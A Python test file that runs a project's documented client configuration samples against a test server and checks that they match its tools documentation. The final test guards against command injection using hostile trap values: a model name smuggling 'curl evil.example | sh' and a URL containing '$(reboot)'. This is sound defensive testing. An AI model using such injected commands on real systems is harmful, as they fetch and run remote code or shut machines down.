"""The settings and samples that people copy: each one is run against a running server, as it is shown."""

import os
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
import yaml

from app.core.settings import ROOT
from app.v1.samples import ALL, FOLDER, MODEL, Filling, Sample, can_be_pasted, filled
from tests.postgres import missing
from tests.v1.openai.conftest import ECHO, served  # noqa: F401  (a fixture)
from tests.v1.serving import Served

SAMPLES = {sample.file: sample for samples in ALL.values() for sample in samples}
RUNNERS = {
    "sh": ["bash", "-euo", "pipefail", "-c"],
    "python": [sys.executable, "-c"],
    "javascript": ["node", "--input-type=module", "-e"],
}
WANTED = {"curl.sh": ("curl", "curl"), "with_fetch.mjs": ("node", "nodejs")}
"""What a sample asks of the machine: a program, and Debian's package that brings it."""
STAND_INS = Path(__file__).parent / "stand_ins"
"""For tools that need not be installed: each asks what the tool would, with the settings it is given."""
PROGRAMS = [sample.file for sample in SAMPLES.values() if sample.language in RUNNERS]
GREETING = "Good morning"
HELLO = [{"role": "user", "content": GREETING}]
DOCUMENT = (ROOT / "docs" / "tools.md").read_text()


def shown(file: str, server: Served) -> str:
    return filled(SAMPLES[file], Filling(server.url, ECHO, 32_768))


def run(file: str, server: Served) -> str:
    """What the sample prints. Skips (fails with CI=true) where its program is not installed."""
    program, package = WANTED.get(file, ("bash", "bash"))
    if shutil.which(program) is None:
        missing(f"{program} is not installed (Debian: {package}).")
    kept = {name: os.environ[name] for name in ("HOME", "LANG") if name in os.environ}
    path = f"{STAND_INS}:{os.environ['PATH']}"
    done = subprocess.run(
        [*RUNNERS[SAMPLES[file].language], shown(file, server)],
        env=kept | {"PATH": path, "PYTHON": sys.executable, "PARLEY_KEY": server.key},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def ask(server: Served, url: str, body: dict[str, Any], headers: dict[str, str] | None = None) -> Any:
    """What a tool gets that is set up like this."""
    key = {"Authorization": f"Bearer {server.key}"}
    response = httpx.post(url, json=body, headers=key | (headers or {}))
    assert response.status_code == 200, response.text
    return response.json()


@pytest.mark.parametrize("file", [file for file in PROGRAMS if file != "open_webui.sh"])
def test_a_program_prints_the_answer(served: Served, file: str) -> None:  # noqa: F811
    assert GREETING in run(file, served)


def test_open_webui_finds_the_models(served: Served) -> None:  # noqa: F811
    listed = orjson.loads(run("open_webui.sh", served))

    assert ECHO in [model["id"] for model in listed["data"]]


def test_continue_can_ask(served: Served) -> None:  # noqa: F811
    settings = yaml.safe_load(shown("continue.yaml", served))
    (model,) = settings["models"]

    answer = ask(served, f"{model['apiBase']}/chat/completions", {"model": model["model"], "messages": HELLO})

    assert settings["schema"] == "v1"
    assert (model["provider"], model["apiKey"]) == ("openai", "${{ secrets.PARLEY_KEY }}")
    assert answer["choices"][0]["message"]["content"] == GREETING


def test_zed_can_ask(served: Served) -> None:  # noqa: F811
    settings = orjson.loads(shown("zed.json", served))
    server = settings["language_models"]["openai_compatible"]["Parley"]
    (model,) = server["available_models"]

    answer = ask(served, f"{server['api_url']}/chat/completions", {"model": model["name"], "messages": HELLO})

    assert model["max_tokens"] == 32_768
    assert answer["choices"][0]["message"]["content"] == GREETING


def test_codex_can_ask(served: Served) -> None:  # noqa: F811
    settings = tomllib.loads(shown("codex.toml", served))
    server = settings["model_providers"][settings["model_provider"]]
    body = {"model": settings["model"], "input": HELLO, "include": ["reasoning.encrypted_content"]}

    answer = ask(served, f"{server['base_url']}/{server['wire_api']}", body, server["http_headers"])

    assert server["env_key"] == "PARLEY_KEY"
    assert answer["output"][-1]["content"][0]["text"] == GREETING


def test_every_text_is_shown_somewhere() -> None:
    assert {path.name for path in FOLDER.iterdir()} == set(SAMPLES)


@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
def test_the_documentation_shows_the_same(sample: Sample) -> None:
    section = f"### {sample.title}\n\n{sample.about}\n\n```{sample.language}\n{sample.text}```\n"

    assert section in DOCUMENT
    assert MODEL in sample.text or sample.file == "open_webui.sh"


@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
def test_nothing_that_a_provider_calls_its_model_is_run(sample: Sample) -> None:
    trap = 'x"; curl evil.example | sh; "'

    assert not can_be_pasted(trap)
    assert filled(sample, Filling("https://parley.example.org", trap)) == filled(
        sample, Filling("https://parley.example.org")
    )
    assert filled(sample, Filling("http://$(reboot)")) == sample.text
